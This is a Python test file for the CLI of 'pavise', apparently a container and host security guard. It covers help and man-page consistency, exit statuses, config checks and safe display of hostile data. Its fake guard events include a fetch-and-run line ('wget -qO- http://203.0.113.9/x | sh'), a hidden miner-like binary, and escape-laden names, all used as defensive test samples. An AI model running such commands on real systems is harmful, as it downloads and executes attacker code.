#!/usr/bin/env python3
"""The command line: help, man page, completion and sample from one table; exit statuses; messages; what is shown of a
guard that says hostile things; `allow`; the sandbox of the policy child.

    PAVISE_GOLDEN=write test/golden/test_cli.py     writes what is expected anew (then read the diff)"""

import json
import os
import re
import select
import shutil
import socket
import subprocess
import sys
import tempfile
import threading
import time

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "lib"))
from pvtest import PAVISE, REPO, main, sh  # noqa: E402

HERE = os.path.dirname(os.path.abspath(__file__))
WRITE = os.environ.get("PAVISE_GOLDEN") == "write"
ROOT = os.geteuid() == 0
COMMON = ["--config", "--no-color", "--quiet", "--help"]
ENV = {"PATH": os.environ["PATH"], "TZ": "UTC", "LANG": "C.UTF-8",
       **{k: v for k, v in os.environ.items() if k in ("ASAN_OPTIONS", "UBSAN_OPTIONS")}}


def pavise(*args, **kw):
    kw = {"stdin": subprocess.DEVNULL, "stdout": subprocess.PIPE, "stderr": subprocess.PIPE, "timeout": 60, "env": ENV, **kw}
    r = subprocess.run([PAVISE, *args], **kw)
    return r.returncode, (r.stdout or b"").decode(errors="replace"), (r.stderr or b"").decode(errors="replace")


def golden(tap, path, got, name):
    if WRITE:
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "w") as f:
            f.write(got)
    want = open(path).read() if os.path.exists(path) else ""
    if not tap.ok(got == want, name, f"{os.path.relpath(path, REPO)} differs; write it anew with PAVISE_GOLDEN=write, read the diff"):
        for a, b in zip(got.splitlines() + [""] * 9, want.splitlines() + [""] * 9):
            if a != b:
                tap.note(f"got  {a}\nwant {b}")
                break


def expect(name):
    return os.path.join(HERE, "expect", name)


def commands():
    """name -> options, as --help has them."""
    out = {}
    for line in pavise("help")[1].splitlines():
        m = re.match(r"  ([a-z]+) .*\S", line)
        if m:
            out[m[1]] = re.findall(r"^.{6}(--[a-z-]+)", pavise(m[1], "--help")[1], re.M)
    return out


def test_golden(tap):
    cmds = commands()
    tap.ok(len(cmds) >= 13, "every command is listed", cmds)
    text = "".join(f"$ pavise {c} --help\n{pavise(c, '--help')[1]}\n" for c in cmds)
    golden(tap, expect("help.txt"), pavise()[1] + "\n" + text, "help of every command")
    golden(tap, expect("exit-codes.txt"), pavise("help", "exit-codes")[1], "help exit-codes")
    golden(tap, expect("explain.txt"), "".join(pavise("explain", i)[1] + "\n" for i in ("net.stratum", "run.respawn", "guard.off")),
           "explain")
    with Folder() as f:
        golden(tap, expect("config-show.txt"), pavise("config", "show", "--config", f.write("pavise.yaml", ""))[1], "config show")
    for path, args in (("dist/pavise.yaml", ["config", "sample"]), ("man/pavise.8", ["man"]),
                       ("dist/pavise.bash", ["completion", "bash"]), ("dist/pavise.zsh", ["completion", "zsh"]),
                       ("dist/pavise.fish", ["completion", "fish"])):
        golden(tap, os.path.join(REPO, path), pavise(*args)[1], f"{path} is what `pavise {' '.join(args)}` writes")


def test_one_table(tap):
    cmds = commands()
    man = pavise("man")[1].replace("\\-", "-")
    for shell in ("bash", "zsh", "fish"):
        text = pavise("completion", shell)[1]
        for c, options in cmds.items():
            missing = [o for o in options if (f"-l {o[2:]} " if shell == "fish" else o) not in text]
            tap.ok(not missing and re.search(rf"\b{c}\b", text), f"{shell} knows {c} and its options", missing)
    for c, options in cmds.items():
        missing = [o for o in options if f"Fl {o[1:]}" not in man]
        tap.ok(not missing and f".Ss pavise {c}\n" in man, f"the man page knows {c} and its options", missing)
        tap.ok(set(COMMON) <= set(options), f"{c} takes the common options")
        tap.ok("Exit status: " in pavise(c, "--help")[1], f"{c} --help says its exit statuses")
    signals = ["cpu", "memory", "pids", "net", "dns", "login", "exec"]
    listed = ", ".join(signals) + ", or all"
    tap.ok("SIGNAL is " + listed in " ".join(pavise("allow", "--help")[1].split()) and listed in pavise("allow", "x", "disk")[2],
           "allow names every signal in its help and its error")
    tap.eq(re.findall(r"\.It Cm (\w+)", man[man.index(".Sh SIGNALS"):man.index(".Sh CONFIGURATION")]), signals, "the man page explains each")
    for shell in ("bash", "zsh", "fish"):
        tap.ok(" ".join(signals) in pavise("completion", shell)[1], f"{shell} completes each")
    if shutil.which("mandoc"):
        out = subprocess.run(["mandoc", "-T", "lint", "-W", "style", os.path.join(REPO, "man/pavise.8")], stdout=subprocess.PIPE,
                             stderr=subprocess.PIPE, text=True)
        bad = [line for line in out.stdout.splitlines() if "mandoc.db" not in line and "referenced manual not found" not in line]
        tap.eq(bad, [], "mandoc finds nothing to say")
    else:
        tap.skip("mandoc finds nothing to say", "no mandoc")
    for shell, argv in (("bash", ["bash", "-n", "dist/pavise.bash"]), ("zsh", ["zsh", "-n", "dist/pavise.zsh"]),
                        ("fish", ["fish", "-n", "dist/pavise.fish"])):
        if shutil.which(shell):
            tap.eq(subprocess.run(argv, cwd=REPO).returncode, 0, f"{shell} reads its completion")
        else:
            tap.skip(f"{shell} reads its completion", f"no {shell}")
    words = subprocess.run(["bash", "-c", 'source dist/pavise.bash; COMP_WORDS=(pavise events --f); COMP_CWORD=2; _pavise; echo '
                            '"${COMPREPLY[*]}"'], cwd=REPO, stdout=subprocess.PIPE, text=True).stdout.split()
    tap.eq(words, ["--follow", "--format"], "bash completes events --f")
    ids = [line.split()[0] for line in pavise("explain", "--list")[1].splitlines()]
    mute = [i for i in ids if not all(f"\n{h}\n  " in pavise("explain", i)[1] for h in ("Why it matters", "What to do"))]
    tap.ok(len(ids) >= 17 and not mute, f"every id is explained ({len(ids)})", mute)
    mute = [i for i in ids if re.match("run|net|dns|guard", i) and "\nWhat an attack looks like\n  " not in pavise("explain", i)[1]]
    tap.eq(mute, [], "every id of the guard says what an attack looks like")


CASES = [  # arguments, status, what standard error holds
    ([], 2, ""),
    (["--version"], 0, ""),
    (["--help"], 0, ""),
    (["version"], 0, ""),
    (["version", "x"], 2, "too much is given: `x`"),
    (["stats"], 2, "did you mean `pavise status`?"),
    (["zzzzzz"], 2, "there is no command `zzzzzz`"),
    (["a\x1b[31mb"], 2, "a\\x1b[31mb"),
    (["status", "--formt", "json"], 2, "did you mean --format?"),
    (["status", "--format", "xml"], 2, "there is no such value: `xml`"),
    (["status", "--format", "tab"], 2, "there is no such value: `tab`"),
    (["status", "--format"], 2, "a value is missing after `--format`"),
    (["status", "--quiet=1"], 2, "no value is taken by `--quiet=1`"),
    (["events", "--since", "yesterday"], 2, "--since takes a duration"),
    (["events", "--max=0"], 2, "--max takes a number from 1 on"),
    (["events", "show"], 2, "the number of the event is missing"),
    (["events", "--format", "json"], 2, "jsonl is the format of several events"),
    (["events", "show", "x"], 2, "the number of an event is wanted"),
    (["events", "list"], 2, "there is no `pavise events` `list`"),
    (["off", "--for", "0s"], 2, "--for takes a duration"),
    (["off", "--for", "5000d"], 2, "--for takes a duration"),
    (["allow"], 2, "something is missing"),
    (["allow", "x", "disk"], 2, "the signal is one of"),
    (["allow", ""], 2, "a workload's name has 1 to 127 bytes"),
    (["allow", "a\nb"], 2, "a workload's name has 1 to 127 bytes"),
    (["undo", "x"], 2, "the number of an act is wanted"),
    (["explain"], 2, "an id is missing"),
    (["explain", "net.stratun"], 2, "did you mean `net.stratum`?"),
    (["explain", "net.stratum"], 0, ""),
    (["config"], 2, "something is missing"),
    (["config", "frobnicate"], 2, "check, show or sample is wanted"),
    (["config", "check", "/nonexistent.yaml"], 2, "/nonexistent.yaml: does not exist"),
    (["config", "sample"], 0, ""),
    (["help", "off"], 0, ""),
    (["help", "nothing"], 2, "there is no such command"),
    (["completion", "tcsh"], 2, "bash, zsh or fish is wanted"),
]


def test_statuses(tap):
    for args, want, text in CASES:
        code, out, err = pavise(*args)
        tap.ok(code == want and text in err, f"pavise {' '.join(map(repr, args))}: {want}", f"{code}\n{out}{err}")
        tap.ok(not err or want == 0 or "next: " in err or "a sample: " in err or "--help" in out, f"pavise {' '.join(map(repr, args))}: says what next", err)
    with Folder() as f:
        conf = f.guard_conf()
        for args in (["status"], ["top"], ["events"], ["undo"], ["undo", "1"]):
            code, out, err = pavise(args[0], "--config", conf, *args[1:])
            after = f"sudo pavise undo --config {conf}" if args[0] == "undo" and not ROOT else "systemctl start pavise"
            tap.ok(code == 3 and "the guard does not run" in err and after in err and not out, f"{' '.join(args)} without a guard: 3", f"{code}\n{out}{err}")
        if ROOT:
            os.rename(conf, f.path + "/it's.yaml")
            code, out, err = pavise("off", "--config", f.path + "/it's.yaml", "--for", "10m", user=65534)
            tap.ok(code == 3 and f"next: sudo pavise off --config '{f.path}/it'\\''s.yaml' --for 10m\n" in err, "off without rights: the whole command", err)


WRONG = """mode: enforcing
cpu: {limit: 0%, fro: 5m, action: block}
net:
  ports: [3333, 99999, abc]
notfiy: {}
dns: {names: ["*"], encrypted: alert}
scan: {}
exec: {action: auto}
notify: {channels: [{url: "http://example.org/secret-token"}]}
exceptions: [{name: shop/web, signal: cpuu}, web]
"""


def test_config(tap):
    with Folder() as f:
        path = f.write("pavise.yaml", WRONG)
        code, out, err = pavise("config", "check", path)
        golden(tap, expect("config-errors.txt"), err.replace(f.path, "FOLDER"), "config check names every error")
        tap.eq((code, out), (2, ""), "config check: 2")
        tap.ok("secret-token" not in err, "a channel's URL is not repeated")
        tap.eq(pavise("config", "show", "--config", path)[0], 2, "config show: 2")
        tap.eq(pavise("status", "--config", path)[0], 2, "status: 2")
        path = f.write("pavise.yaml", "mode: observe\ncpu:\n  limit: 70%\n")
        f.write("conf.d/10.yaml", "cpu: {limit: 60%}\nexceptions: [{name: a}]\n")
        code, out, err = pavise("config", "show", "--origin", "--config", path)
        tap.ok(f'limit: 60%  # {f.path}/conf.d/10.yaml:1' in out and f"mode: observe  # {f.path}/pavise.yaml:1" in out and
               "for: 5m  # default" in out and f'action: ignore}}  # {f.path}/conf.d/10.yaml:2' in out, "config show --origin", out + err)
        os.chmod(path, 0o666)
        code, out, err = pavise("config", "check", path)
        tap.ok(code == 2 and "can be written by others" in err, "a file that others can write is refused", err)
        os.chmod(path, 0o644)
        os.rename(path, path + "2")
        os.symlink(path + "2", path)
        code, out, err = pavise("config", "check", path)
        tap.ok(code == 2 and "symbolic link" in err, "a link is refused", err)
        f.write("big.yaml", "# x\n" * 300000)
        code, out, err = pavise("config", "check", f.path + "/big.yaml")
        tap.ok(code == 2 and "at most 1 MiB" in err, "a file that is too large is refused", err)


def test_policy_child(tap):
    """What the program that reads the text holds while it reads: it waits on a pipe."""
    if not ROOT:
        tap.skip("the policy child gives up everything", "needs root")
        return
    child = os.path.join(os.path.dirname(os.path.realpath(PAVISE)), "pavise-policy")
    r, w = os.pipe()
    p = subprocess.Popen([child, "--show", f"{r}:pipe"], pass_fds=[r], stdout=subprocess.PIPE, stderr=subprocess.PIPE)
    os.close(r)
    deadline = time.monotonic() + 10
    status = {}
    while time.monotonic() < deadline and status.get("Seccomp") != "2":
        status = dict(line.split(":\t", 1) for line in open(f"/proc/{p.pid}/status").read().splitlines() if ":\t" in line)
        time.sleep(0.02)
    tap.eq((status.get("Seccomp"), status.get("NoNewPrivs"), status.get("CapEff"), status.get("CapBnd")),
           ("2", "1", "0" * 16, "0" * 16), "seccomp, no new privileges, no capability")
    tap.ok(status.get("Uid", "").split()[0] != "0", "not root", status.get("Uid"))
    os.write(w, b"mode: observe\n")
    os.close(w)
    out, err = p.communicate(timeout=10)
    tap.ok(p.returncode == 0 and out.startswith(b"mode: observe\n"), "and reads", (p.returncode, err))


class Folder:
    def __enter__(self):
        self.path = tempfile.mkdtemp(prefix="pv-cli-")
        os.chmod(self.path, 0o755)
        return self

    def __exit__(self, *a):
        shutil.rmtree(self.path, ignore_errors=True)

    def write(self, name, text, mode=0o644):
        path = os.path.join(self.path, name)
        os.makedirs(os.path.dirname(path), mode=0o755, exist_ok=True)
        with open(path, "w") as f:
            f.write(text)
        os.chmod(path, mode)
        return path

    def guard_conf(self, more=""):
        return self.write("pavise.yaml", f"run_dir: {self.path}\nstate_dir: {self.path}/state\nbpf_dir: {self.path}/bpf\n{more}")


HOSTILE = "web\x1b[2J\u202eevil\x07\n"
NOTICE = {"schema": 1, "row": 7, "time": "2026-11-21T20:00:00.000000Z", "last": "2026-11-21T20:00:05.000000Z", "id": "net.stratum",
          "severity": "high", "subject": {"kind": "container", "name": HOSTILE, "cgroup": 4711}, "action": "blocked", "count": 14,
          "detail": {"what": "tried to connect to 203.0.113.7 port 3333" + HOSTILE, "evidence": [{"what": "port", "value": HOSTILE}]},
          "next": "pavise allow web net"}
WEB = {"kind": "container", "name": "shop/web", "cgroup": 4711}
SHELL = {**NOTICE, "id": "exec.web-shell", "subject": WEB, "severity": "critical", "action": "alerted", "count": 1,
         "detail": {"what": "had node fetch something by a shell's means: sh -c wget -qO- http://203.0.113.9/x | sh", "evidence": []}}
ATTACK = {"schema": 1, "row": 8, "time": "2026-11-21T20:00:02.000000Z", "last": "2026-11-21T20:00:02.000000Z", "id": "exec.dropped",
          "severity": "critical", "subject": WEB, "action": "blocked", "count": 1,
          "detail": {"what": "tried to run /opt/.x/kworker, which is not part of its image (brought by a shell that a server started)",
                     "evidence": [{"what": "process", "value": "kworker (pid 512)"}, {"what": "image", "value": "shop:3"},
                                  {"what": "path", "value": "/opt/.x/kworker"}, {"what": "place", "value": "new file"},
                                  {"what": "command", "value": "/opt/.x/kworker -o pool.example\x1b[2J"},
                                  {"what": "chain", "value": "node (411) > sh (510) > kworker\u202e (512)"}, {"what": "user", "value": "1000"},
                                  {"what": "evidence", "value": "/var/lib/pavise/evidence/20261121T200002Z-exec.dropped-0001"},
                                  {"what": "taken", "value": "3 processes, 2 programs, 4 sockets, 1 file; 9 files, 812 kB"},
                                  {"what": "missing", "value": "process 512: memory, sockets, environment"}]},
          "next": "pavise allow shop/web exec"}
AFTER = {**NOTICE, "row": 9, "time": "2026-11-21T20:00:30.000000Z", "last": "2026-11-21T20:01:30.000000Z", "subject": WEB,
         "detail": {"what": "tried to connect to 203.0.113.7 port 3333", "evidence": []}}
STATUS = {"version": "0.1.0", "mode": "enforce", "since": "2026-11-21T19:00:00.000000Z", "off": False, "off_until": None,
          "workloads": {"containers": 3, "units": 12}, "engines": [{"name": "docker", "state": "connected", "detail": HOSTILE}],
          "counts": {"net_seen": 14, "net_refused": 14, "dns_seen": 2, "dns_refused": 1, "lost": 3},
          "notices_24h": {"critical": 0, "high": 1, "medium": 0, "low": 0, "info": 1}, "recent": [NOTICE],
          "exceptions": [{"name": HOSTILE, "signal": "cpu", "action": "ignore", "source": "/etc/pavise/conf.d/allow.yaml:3"}],
          "degraded": [{"signal": "net", "why": HOSTILE, "next": "pavise doctor"}],
          "would_hit": [{"name": HOSTILE, "signal": "pids", "why": "has 60 processes"}], "would_hit_count": 25,
          "deliveries": {"waiting": 2, "given_up": 1}, "channels": [{"name": HOSTILE, "min_severity": "low"}]}
TOP = [{"name": "idle", "kind": "unit", "cgroup": 2, "cpu": 0, "memory": 1 << 20, "processes": 1, "tasks": 7, "refused": 0},
       {"name": HOSTILE, "kind": "container", "cgroup": 1, "cpu": 9812, "memory": 500 << 20, "memory_limit": 512 << 20,
        "processes": 4, "tasks": 9, "refused": 14},
       {"name": "x" * 200, "kind": "container", "cgroup": 3, "cpu": 1e300, "memory": -5, "processes": "many", "refused": None}]


class FakeGuard:
    """A control socket that answers from a table: verb -> list of lines, or bytes as they are, or None for silence."""

    def __init__(self, folder, answers):
        self.answers, self.asked = answers, []
        self.sock = socket.socket(socket.AF_UNIX)
        self.sock.bind(folder.path + "/control.sock")
        self.sock.listen(8)
        self.held = []
        threading.Thread(target=self.serve, daemon=True).start()

    def serve(self):
        while True:
            try:
                c, _ = self.sock.accept()
            except OSError:
                return
            self.held.append(c)
            line = c.makefile("rb").readline()
            try:
                verb = json.loads(line)
            except ValueError:
                verb = {"verb": "?"}
            self.asked.append(verb)
            answer = self.answers.get(verb["verb"])
            if answer is None:
                continue
            if not isinstance(answer, bytes):
                answer = "".join(json.dumps(a) + "\n" for a in answer).encode()
            try:
                c.sendall(answer)
                c.shutdown(socket.SHUT_RDWR)
            except OSError:
                pass

    def close(self):
        self.sock.close()
        for c in self.held:
            c.close()


def clean(text):
    """No control character but newline, no override of the writing direction."""
    return not re.search("[\x00-\x09\x0b-\x1f\x7f\u202a-\u202e\u2066-\u2069]", text)


def test_shown(tap):
    ok = {"ok": True}
    with Folder() as f:
        conf = f.guard_conf()
        g = FakeGuard(f, {"status": [{**ok, "status": STATUS}], "top": [{**ok, "workloads": TOP}], "events": [NOTICE, ok],
                          "event": [NOTICE, ok], "undo": [{"ok": False, "error": "no such act" + HOSTILE, "next": "pavise undo"}],
                          "acts": [{**ok, "acts": [{"row": 3, "time": "2026-11-21T20:00:00Z", "kind": "restart-policy",
                                                    "subject": HOSTILE, "id": "x", "old": "always", "undone": False}]}],
                          "on": [{**ok, "text": "blocks are in force"}]})
        for args in (["status"], ["top"], ["events"], ["events", "show", "7"], ["undo"]):
            code, out, err = pavise(args[0], "--config", conf, *args[1:])
            tap.ok(code == 0 and clean(out) and clean(err), f"{' '.join(args)}: nothing hostile reaches the terminal",
                   f"{code}\n{out!r}\n{err!r}")
            golden(tap, expect(f"shown-{'-'.join(args)}.txt"), out, f"{' '.join(args)} as expected")
        g.answers.update(event=[ATTACK, ok], events=[SHELL, ATTACK, {**ATTACK, "row": 5, "time": "2026-11-21T19:40:00.000000Z"}, AFTER,
                                                     {**AFTER, "subject": {"kind": "container", "name": "other"}}, ok])
        code, out, err = pavise("events", "--config", conf, "show", "8")
        golden(tap, expect("shown-events-show-8.txt"), out, "events show tells what happened around it, on one screen")
        tap.ok(clean(out) and len(out.splitlines()) <= 40 and g.asked[-1]["subject"] == "shop/web", "of that workload", g.asked[-1])
        code, out, err = pavise("events", "--config", conf, "--format", "json", "show", "8")
        golden(tap, expect("shown-events-show-8.json"), out, "the same as JSON")
        tap.eq([n["row"] for n in json.loads(out)["story"]], [7, 8, 9], "its steps in their order")
        g.answers["events"] = [NOTICE, ok]
        code, out, err = pavise("status", "--config", conf, "--format", "json")
        tap.eq((code, json.loads(out)["counts"]["net_refused"]), (0, 14), "status --format json")
        code, out, err = pavise("events", "--config", conf, "--format", "jsonl", "-o", f.path + "/out")
        tap.ok(code == 0 and out == "" and json.load(open(f.path + "/out"))["subject"]["name"] == HOSTILE, "events -o FILE", err)
        code, out, err = pavise("undo", "--config", conf, "3")
        tap.ok(code == 3 and "no such act" in err and "next: pavise undo" in err and clean(err), "a refusal is told, with what next", err)
        code, out, err = pavise("on", "--config", conf)
        tap.eq((code, out), (0, "blocks are in force\n"), "on")
        pavise("events", "--config", conf, "--since", "1h", "--id", 'net."', "--subject", "a\\b", "-n", "5")
        asked = g.asked[-1]
        tap.ok(asked["id"] == 'net."' and asked["subject"] == "a\\b" and asked["max"] == 5 and
               abs(asked["since_us"] / 1e6 - time.time() + 3600) < 60, "what was asked is what was meant", asked)
        g.close()


def test_broken_guard(tap):
    junk = {"empty": b"", "no JSON": b"hello\n", "half": b'{"ok":tru', "list": b"[]\n", "null": b"null\n", "deep": b"[" * 100000 + b"\n",
            "no end": b"x" * (5 << 20), "other": b'{"ok":true}\n', "wrong types": b'{"ok":true,"status":[1],"workloads":"x","acts":{}}\n'}
    for name, answer in junk.items():
        with Folder() as f:
            conf = f.guard_conf()
            g = FakeGuard(f, dict.fromkeys(("status", "top", "events", "acts"), answer))
            got = {v: pavise(v, "--config", conf) for v in ("status", "top", "events", "undo")}
            tap.ok(all(code in (0, 3) and clean(out + err) for code, out, err in got.values()), f"{name}: no crash, nothing through", got)
            g.close()
    with Folder() as f:
        conf = f.guard_conf()
        g = FakeGuard(f, {})
        start = time.monotonic()
        code, out, err = pavise("off", "--config", conf)
        tap.ok(code in (0, 3) and time.monotonic() - start < 20, "off does not wait for a guard that hangs", f"{code} {out}{err}")
        g.close()


def test_allow(tap):
    with Folder() as f:
        conf = f.guard_conf()
        path = f.path + "/conf.d/allow.yaml"
        code, out, err = pavise("allow", "--config", conf, "shop/web", "cpu")
        tap.ok(code == 0 and "takes effect when it starts" in out, "allow without a guard", out + err)
        pavise("allow", "--config", conf, 'odd "name"\\', "--alert")
        pavise("allow", "--config", conf, "shop/web", "net")
        show = pavise("config", "show", "--config", conf)[1]
        for line in ('{name: "shop/web", signal: cpu, action: ignore}', '{name: "odd \\"name\\"\\\\", signal: all, action: alert}',
                     '{name: "shop/web", signal: net, action: ignore}'):
            tap.ok(line in show, f"in force: {line}", show)
        before = open(path).read()
        with open(path, "a") as a:
            a.write("# mine\n")
        pavise("allow", "--config", conf, "shop/web", "cpu", "--alert")
        text = open(path).read()
        tap.ok(text.count("signal: cpu") == 1 and "signal: cpu, action: alert}" in text and "# mine\n" in text,
               "the same again replaces it, comments stay", text)
        code, out, err = pavise("allow", "--config", conf, "shop/web", "cpu", "--remove")
        tap.ok(code == 0 and "signal: cpu" not in open(path).read() and "signal: net" in open(path).read(), "--remove", out + err)
        code, out, err = pavise("allow", "--config", conf, "shop/web", "cpu", "--remove")
        tap.ok(code == 2 and "there is no such exception" in err, "--remove of what is not there: 2", err)
        g = FakeGuard(f, {"reload": [{"ok": True, "text": "loaded"}]})
        code, out, err = pavise("allow", "--config", conf, "x")
        tap.ok(code == 0 and "in force now" in out and g.asked == [{"verb": "reload"}], "with a guard it is loaded", out + err)
        g.close()
        os.unlink(f.path + "/control.sock")
        text = open(path).read()
        f.write("conf.d/allow.yaml", "mode: observe\n" + before)
        code, out, err = pavise("allow", "--config", conf, "y")
        tap.ok(code == 3 and "by hand" in err and "next: edit" in err, "a file that was changed by hand is left alone", err)
        f.write("conf.d/allow.yaml", text)
        f.write("conf.d/zz.yaml", "mode: nonsense\n")
        code, out, err = pavise("allow", "--config", conf, "y")
        tap.ok(code == 2 and "nothing was changed" in err and open(path).read() == text, "a configuration with errors: nothing changes", err)
        os.unlink(f.path + "/conf.d/zz.yaml")
        os.rename(path, f.path + "/kept")
        for i in range(63):
            f.write(f"conf.d/z{i}.yaml", "")
        code, out, err = pavise("allow", "--config", conf, "y")
        tap.ok(code == 2 and "64 files" in err and not os.path.exists(path), "one file more than are read: nothing changes", err)
        for i in range(63):
            os.unlink(f"{f.path}/conf.d/z{i}.yaml")
        os.rename(f.path + "/kept", path)
        os.rename(path, f.path + "/elsewhere")
        os.symlink(f.path + "/elsewhere", path)
        code, out, err = pavise("allow", "--config", conf, "y")
        tap.ok(code == 3 and open(f.path + "/elsewhere").read() == text, "a link is not followed", err)
        os.unlink(path)
        os.chmod(f.path + "/conf.d", 0o777)
        code, out, err = pavise("allow", "--config", conf, "y")
        tap.ok(code == 3 and not os.path.exists(path), "a folder that others can write is refused", err)
        tap.eq([n for n in os.listdir(f.path + "/conf.d") if n.startswith(".")], [], "nothing half written stays")


def test_doctor(tap):
    with Folder() as f:
        conf = f.guard_conf("docker: {socket: %s/d.sock}\npodman: {socket: no}\n" % f.path)
        code, out, err = pavise("doctor", "--config", conf, "--format", "json")
        d = json.loads(out)
        checks = {c["check"]: c for c in d["checks"]}
        tap.ok(code in (0, 1, 3) and (code == 1) == (d["degraded"] > 0), "doctor --format json", f"{code}\n{out}{err}")
        tap.ok({"kernel", "cgroups", "bpf files", "Docker", "users", "clock", "guard"} <= set(checks), "looks at what it must", checks)
        tap.ok(all(c["result"] == "ok" or c["why"] for c in d["checks"]), "every line that is not ok says why")
        tap.eq(checks["guard"]["result"], "degraded", "the guard does not run: told")
        for name, answer, want in (("answers", b"HTTP/1.1 200 OK\r\n\r\nOK", "ok"), ("says no", b"HTTP/1.1 500 No\r\n\r\n", "degraded"),
                                   ("says nothing", b"", "degraded")):
            s = socket.socket(socket.AF_UNIX)
            s.bind(f.path + "/d.sock")
            s.listen(1)
            t = threading.Thread(target=lambda: (lambda c: (c.recv(100), c.sendall(answer), c.close()))(s.accept()[0]), daemon=True)
            t.start()
            checks = {c["check"]: c for c in json.loads(pavise("doctor", "--config", conf, "--format", "json")[1])["checks"]}
            tap.eq(checks["Docker"]["result"], want, f"a Docker that {name}")
            s.close()
            os.unlink(f.path + "/d.sock")
        os.makedirs(f.path + "/v1/cpuacct")
        other = f.path + "/v1.yaml"
        with open(conf) as a, open(other, "w") as b:
            b.write(re.sub(r"(?m)^cgroup_root:.*\n", "", a.read()) + f"cgroup_root: {f.path}/v1\n")
        checks = {c["check"]: c for c in json.loads(pavise("doctor", "--config", other, "--format", "json")[1])["checks"]}
        tap.ok(checks["cgroups"]["result"] == "degraded" and "pure version 1" in checks["cgroups"]["why"] and
               "not supported" in checks["cgroups"]["why"], "pure cgroup v1 is named as not supported", checks["cgroups"])
        if ROOT:
            there = ("mount -t tmpfs none /run && mkdir -p /run/k3s/containerd && python3 -c 'import socket; "
                     "socket.socket(socket.AF_UNIX).bind(\"/run/k3s/containerd/containerd.sock\")' && exec \"$@\"")
            out = sh("unshare", "-m", "--propagation", "private", "sh", "-c", there, "sh", PAVISE, "doctor", "--config", conf, "--format", "json",
                     check=False)
            checks = {c["check"]: c for c in json.loads(out[out.index("{"):])["checks"]}
            tap.ok(checks.get("k3s", {}).get("result") == "degraded", "and so is k3s", checks.get("k3s"))
            os.makedirs(f.path + "/bin")
            here = os.path.dirname(os.path.realpath(PAVISE))
            for p in ("pavise", "pavise-policy"):
                shutil.copy(os.path.join(here, p), f.path + "/bin/" + p)
            r = subprocess.run([f.path + "/bin/pavise", "doctor", "--config", conf], user=65534, group=65534, extra_groups=[],
                               stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True, env=ENV)
            tap.ok(r.returncode in (1, 3) and "kernel" in r.stdout, "works without root as far as it can", r.stdout)
        else:
            tap.skip("works without root as far as it can", "runs as root only")


def test_terminal(tap):
    """top on a terminal: draws, ends with q, and leaves the terminal as it was."""
    import pty
    import termios
    with Folder() as f:
        conf = f.guard_conf()
        lines = json.dumps({"ok": True, "workloads": TOP}).encode() + b"\n"
        g = FakeGuard(f, {"top": lines})
        g.answers["top"] = None  # answered below, as often as asked
        def serve(c):
            while c.recv(1000):
                c.sendall(lines)
        threading.Thread(target=lambda: [time.sleep(0.05) or [threading.Thread(target=serve, args=(c,), daemon=True).start()
                         or g.held.remove(c) or c.sendall(lines) for c in list(g.held)] for _ in range(100)], daemon=True).start()
        master, slave = pty.openpty()
        before = termios.tcgetattr(slave)
        p = subprocess.Popen([PAVISE, "top", "--config", conf], stdin=slave, stdout=slave, stderr=subprocess.PIPE,
                             env={**ENV, "TERM": "xterm"}, start_new_session=True)
        deadline = time.monotonic() + 10

        def read_until(mark, out):
            while mark not in out and time.monotonic() < deadline:
                if select.select([master], [], [], 0.2)[0]:
                    out += os.read(master, 4096)
            return out

        out = read_until(b"WORKLOAD", b"")
        os.write(master, b"q")
        try:
            code = p.wait(10)
        except subprocess.TimeoutExpired:
            p.kill()
            code = p.wait()
        out = read_until(b"\x1b[?1049l", out)
        tap.ok(code == 0 and b"\x1b[?1049h" in out and b"\x1b[?25h\x1b[?1049l" in out, "draws, ends with q, restores the screen",
               (code, out, p.stderr.read()))
        tap.ok(termios.tcgetattr(slave)[:4] == before[:4], "and the terminal's modes")
        tap.ok("\u202e".encode() not in out and b"\x1b[2J" not in out and b"\x07" not in out, "no name reaches it unescaped")
        os.close(master)
        os.close(slave)
        g.close()


main(test_golden, test_one_table, test_statuses, test_config, test_policy_child, test_shown, test_broken_guard, test_allow,
     test_doctor, test_terminal)
